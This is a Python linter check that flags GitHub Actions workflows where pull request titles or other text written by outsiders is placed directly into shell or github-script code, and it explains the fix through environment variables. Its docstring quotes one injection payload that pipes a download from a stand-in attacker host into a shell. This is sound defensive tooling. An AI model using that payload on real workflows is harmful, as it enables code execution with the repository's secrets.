"""GD318."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from gatepost.doctor.actions.untrusted import has_secrets, written_by_strangers
from gatepost.doctor.check import DoctorCheck
from gatepost.doctor.expressions import expressions
from gatepost.doctor.roles import Place, steps_of
from gatepost.doctor.symptoms import SECURITY
from gatepost.outcomes.values import Problem
from gatepost.values import ERROR, WARNING

if TYPE_CHECKING:
    from collections.abc import Iterator

    from gatepost.doctor.facts import Facts
    from gatepost.doctor.node import Node

_SCRIPT = "actions/github-script"
_AS_TEXT = re.compile(r"toJSON\s*\([^()]*\)", re.IGNORECASE)
_COMMENT = re.compile(r"\s*#")
_PRIVILEGED = "Anybody can run commands here, with the secrets of the repository and a token that may write."
_PLAIN = (
    "Whoever proposes a change runs commands in the job, with the rights of the job, but from a fork without secrets."
)


class GhTitleInjection(DoctorCheck):
    """A script has text of strangers in it, as the title of a pull request: what they write is executed.

    ## Symptom
    Whoever writes that text runs commands in the job, with the rights that the job has.

    A title with a quote or a backtick makes the job fail, as in "fix: read `pyproject.toml`". And a title such as
    `x"; curl evil.example | sh; "` runs what it says, with the rights and the secrets of the job.

    ## Cause
    `${{ }}` is filled in before the shell sees the script: the text becomes a part of it. Titles, bodies, comments,
    the names of branches, labels and authors, and messages of commits are other people's. Plain `pull_request` from a
    fork has no secrets, which is why that alone is a warning.

    ## Mend
    Hand it on by the environment, and let the shell read it from there, in quotes:

        - env:
            TITLE: ${{ github.event.pull_request.title }}
          run: echo "$TITLE"

    In `actions/github-script`, read it as `context.payload.pull_request.title`, or as `process.env.TITLE`.
    """

    code = "GD318"
    name = "gh-title-injection"
    symptoms: tuple[str, ...] = (SECURITY,)

    def unable(self, facts: Facts) -> str:
        """Return that no script is run."""
        is_any = any(next(_scripts(place), None) is not None for place in steps_of(facts.workflows))
        return "" if is_any else "no workflow runs a script"

    def look(self, facts: Facts) -> Iterator[Problem]:
        """Report each line of a script in which something of a stranger's is filled in."""
        seen = set()
        for place in steps_of(facts.workflows):
            for node, is_shell in _scripts(place):
                for line, written in _injected(place, node, is_shell=is_shell):
                    where = place.workflow.at(line)
                    if where not in seen:
                        seen.add(where)
                        yield _problem(place, where, written, is_shell=is_shell)

    def fine(self, facts: Facts) -> str:  # noqa: ARG002  the contract
        """Return that scripts are fixed texts."""
        return "no script has text of strangers in it"


def _problem(place: Place, where: str, written: str, *, is_shell: bool) -> Problem:
    name = re.sub(r"\W+", "_", written.rpartition(".")[2]).upper().strip("_") or "TEXT"
    is_privileged = has_secrets(place.workflow, written)
    use = f'`"${name}"`' if is_shell else f"`process.env.{name}`"
    return Problem(
        f"`{written}`, which a stranger writes, becomes a part of the script and is executed",
        where,
        f"write `{name}: ${{{{ {written} }}}}` under `env` of the step, and {use} in the script",
        ERROR if is_privileged else WARNING,
        why=_PRIVILEGED if is_privileged else _PLAIN,
    )


def _scripts(place: Place) -> Iterator[tuple[Node, bool]]:
    """Yield the scripts of a step, and whether it is the shell that reads them."""
    run = place.step.node.get("run")
    if run is not None and place.step.run:
        yield run, True
    script = place.step.node.get("with", "script") if place.is_action(_SCRIPT) else None
    if script is not None:
        yield script, False


def _injected(place: Place, node: Node, *, is_shell: bool) -> Iterator[tuple[int, str]]:
    """Yield the lines on which something of a stranger's is filled in, with what it is."""
    env = {**place.workflow.env, **place.job.env, **place.step.env}
    lines = place.workflow.document.text.split("\n")
    for expression in dict.fromkeys(expressions(node.text)):
        if not is_shell and _AS_TEXT.fullmatch(expression):
            continue
        written = written_by_strangers(place.workflow, expression, env)
        if not written:
            continue
        first = expression.split("\n")[0]
        for line in range(node.line, node.last + 1):
            if first in lines[line - 1] and not _COMMENT.match(lines[line - 1]):
                yield line, written
